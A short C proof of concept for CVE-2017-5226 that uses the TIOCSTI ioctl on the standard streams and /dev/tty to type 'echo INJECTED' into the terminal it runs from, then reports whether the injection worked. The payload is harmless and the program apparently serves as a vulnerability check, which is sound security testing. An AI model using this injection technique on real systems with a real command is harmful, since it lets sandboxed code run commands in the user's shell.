/*
 * tty.c - CVE-2017-5226: types into the terminal that it was started from
 *
 * TIOCSTI on each standard stream and on /dev/tty; says "typed" when one took it.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

int
main(void)
{
	int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR)};
	int typed = 0;

	for (unsigned i = 0; i < sizeof fds / sizeof *fds; i++)
		for (const char *p = "echo INJECTED\n"; *p != '\0'; p++)
			typed |= ioctl(fds[i], TIOCSTI, p) == 0;
	printf("%s\n", typed ? "typed" : "not typed");
	return 0;
}
